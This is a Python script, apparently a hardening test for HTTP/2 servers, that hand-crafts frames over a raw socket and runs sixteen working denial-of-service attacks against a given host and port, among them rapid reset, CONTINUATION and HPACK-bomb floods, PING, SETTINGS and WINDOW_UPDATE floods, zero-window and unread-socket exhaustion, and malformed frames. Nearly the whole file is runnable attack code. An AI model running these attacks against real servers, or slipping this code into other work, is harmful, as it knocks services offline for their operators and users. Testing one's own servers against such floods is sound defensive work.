"""Malicious HTTP/2 with prior knowledge from a raw socket, frames made by hand (RFC 9113, section 6).

hostile_http2.py ATTACK HOST PORT prints one JSON object:
{"sent": bytes, "frames": n, "ended": "goaway"|"closed"|"reset"|null, "code": of the GOAWAY, "streams reset": n, "answers": n, "read": bytes}
`ended` null: the server let it all pass, which is right if it costs it nothing.
"""

import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def request(path="/", more=()):
    # By hand, and without the dynamic table: each block stands for itself (RFC 7541, section 6).
    block = b"\x82\x86\x04" + text(path) + b"\x01" + text("x")
    return block + b"".join(b"\x00" + text(name) + text(value) for name, value in more)


def text(value):
    size = len(value)
    return (bytes((size,)) if size < 127 else b"\x7f" + varint(size - 127)) + value.encode()


def varint(number):
    out = b""
    while number >= 128:
        out += bytes((number % 128 | 128,))
        number //= 128
    return out + bytes((number,))


# Headers that are decoded into much and stored nowhere: 15,720 bytes of a frame's 16,384.
LITERALS = (b"\x00" + text("a") + text("b" * 256)) * 60


class Attack:
    def __init__(self, target, settings=()):
        self.socket = socket.create_connection(target, timeout=5)
        self.socket.setblocking(False)
        self.buffer = b""
        self.result = {"sent": 0, "frames": 0, "ended": None, "code": None, "streams reset": 0, "answers": 0, "read": 0}
        body = b"".join(struct.pack(">HI", key, value) for key, value in settings)
        self.send(PREFACE + frame(SETTINGS, 0, 0, body), 1)

    def over(self):
        return self.result["ended"] is not None

    def send(self, data, frames, patience=5, read=True):
        """Sends all, or stops when the server ended it or takes nothing for `patience` seconds."""
        view = memoryview(data)
        stalled = time.monotonic() + patience
        while view and not self.over():
            readable, writable, _ = select.select([self.socket] if read else [], [self.socket], [], 0.2)
            if readable:
                self.read()
            if writable:
                try:
                    n = self.socket.send(view[:65536])
                except BlockingIOError:
                    continue
                except OSError:
                    self.end("reset")
                    return
                self.result["sent"] += n
                view = view[n:]
                stalled = time.monotonic() + patience
            elif time.monotonic() > stalled:
                self.result["stalled"] = True
                return
        self.result["frames"] += frames

    def read(self):
        try:
            data = self.socket.recv(1 << 16)
        except BlockingIOError:
            return
        except OSError:
            self.end("reset")
            return
        if not data:
            self.end("closed")
            return
        self.result["read"] += len(data)
        self.buffer += data
        while len(self.buffer) >= 9:
            size = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + size:
                break
            kind, payload = self.buffer[3], self.buffer[9 : 9 + size]
            self.buffer = self.buffer[9 + size :]
            if kind == GOAWAY:
                self.result["ended"] = "goaway"
                self.result["code"] = int.from_bytes(payload[4:8], "big")
            elif kind == RST:
                self.result["streams reset"] += 1
            elif kind == HEADERS:
                self.result["answers"] += 1

    def end(self, how):
        if self.result["ended"] is None:
            self.result["ended"] = how

    def listen(self, seconds):
        until = time.monotonic() + seconds
        while time.monotonic() < until and not self.over():
            if select.select([self.socket], [], [], 0.2)[0]:
                self.read()


def batches(attack, make, number, size=100):
    """Sends `number` frames made by `make(i)` in batches until the server ends it."""
    for begin in range(0, number, size):
        attack.send(b"".join(make(i) for i in range(begin, min(begin + size, number))), size)
        if attack.over() or attack.result.get("stalled"):
            return


def rapid_reset(target):
    attack = Attack(target)
    block = request("/reset")
    make = lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block) + frame(RST, 0, 2 * i + 1, struct.pack(">I", 8))
    batches(attack, make, 50_000)
    return attack


def open_streams(target):
    """More streams than allowed, none ended."""
    attack = Attack(target)
    block = request("/open", [("content-length", "5")])
    batches(attack, lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, block), 20_000)
    attack.listen(1)
    return attack


def continuation(target):
    attack = Attack(target)
    attack.send(frame(HEADERS, END_STREAM, 1, request("/continuation")), 1)
    # Never the end of the headers.
    piece = frame(CONTINUATION, 0, 1, LITERALS)
    batches(attack, lambda i: piece, 20_000, 10)
    return attack


def empty_continuation(target):
    attack = Attack(target)
    attack.send(frame(HEADERS, END_STREAM, 1, request("/continuation")), 1)
    piece = frame(CONTINUATION, 0, 1)
    batches(attack, lambda i: piece, 2_000_000, 2000)
    return attack


def settings(target):
    attack = Attack(target)
    piece = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 10)
    batches(attack, lambda i: piece, 200_000)
    return attack


def ping(target):
    attack = Attack(target)
    piece = frame(PING, 0, 0, b"12345678")
    batches(attack, lambda i: piece, 500_000, 1000)
    return attack


def unread_ping(target):
    """PING whose acknowledgements are never read: what waits to be sent must not grow."""
    attack = Attack(target)
    piece = frame(PING, 0, 0, b"12345678") * 1000
    for _ in range(3000):
        attack.send(piece, 1000, patience=2, read=False)
        if attack.over() or attack.result.get("stalled"):
            break
    return attack


def window(target):
    attack = Attack(target)
    attack.send(frame(HEADERS, END_HEADERS, 1, request("/window")), 1)
    piece = frame(WINDOW, 0, 0, struct.pack(">I", 1))
    batches(attack, lambda i: piece, 500_000, 1000)
    return attack


def window_overflow(target):
    attack = Attack(target)
    attack.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2, 2)
    attack.listen(5)
    return attack


def priority(target):
    attack = Attack(target)
    batches(attack, lambda i: frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 0, 1)), 500_000, 1000)
    return attack


def empty_data(target):
    attack = Attack(target)
    attack.send(frame(HEADERS, END_HEADERS, 1, request("/empty")), 1)
    piece = frame(DATA, 0, 1)
    batches(attack, lambda i: piece, 1_000_000, 2000)
    return attack


def hpack_bomb(target):
    """One large entry in the table, then thousands of references of a byte each."""
    attack = Attack(target)
    # Literal with indexing: name a, value of 4,000 bytes. Its index is then 62.
    entry = b"\x40" + text("a") + text("b" * 4000)
    for i in range(200):
        block = request("/bomb") + (entry if i == 0 else b"") + b"\xbe" * 12_000
        attack.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block), 1)
        if attack.over():
            break
    attack.listen(3)
    return attack


def large_headers(target):
    """A header list over any bound, in a single request."""
    attack = Attack(target)
    attack.send(frame(HEADERS, END_STREAM, 1, request("/large")), 1)
    for _ in range(15):
        attack.send(frame(CONTINUATION, 0, 1, LITERALS), 1)
    attack.send(frame(CONTINUATION, END_HEADERS, 1), 1)
    attack.listen(3)
    return attack


def zero_window(target):
    """Asks for many large answers and never lets a byte of them go."""
    attack = Attack(target, [(4, 0)])
    block = request("/zero?size=10000000")
    batches(attack, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block), 100)
    attack.listen(10)
    return attack


def no_reader(target):
    """Wide windows and a socket that is never read."""
    attack = Attack(target, [(4, 0x7FFFFFFF)])
    attack.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFF0000 - 65535)), 1, read=False)
    block = request("/unread?size=10000000")
    for i in range(50):
        attack.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block), 1, read=False)
    time.sleep(8)
    return attack


def broken(target):
    """Frames that no one may send; each on its own connection."""
    attack = None
    block = request("/broken")
    for data in (
        frame(DATA, 0, 0, b"x"),
        frame(HEADERS, END_HEADERS, 0, block),
        frame(HEADERS, END_HEADERS, 2, block),
        frame(SETTINGS, 0, 0, b"12345"),
        frame(PING, 0, 0, b"1234"),
        frame(HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"),
        frame(CONTINUATION, END_HEADERS, 1, block),
        frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2) + block),
        b"\xff\xff\xff" + bytes((DATA, 0)) + struct.pack(">I", 1),
    ):
        attack = Attack(target)
        attack.send(data, 1)
        attack.listen(5)
        if not attack.over():
            attack.result["let pass"] = data[:32].hex()
            break
    return attack


ATTACKS = (rapid_reset, open_streams, continuation, empty_continuation, settings, ping, unread_ping, window, window_overflow,
           priority, empty_data, hpack_bomb, large_headers, zero_window, no_reader, broken)


def main():
    name, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    attack = next(a for a in ATTACKS if a.__name__ == name)
    started = time.monotonic()
    result = attack((host, port)).result
    result["seconds"] = round(time.monotonic() - started, 3)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
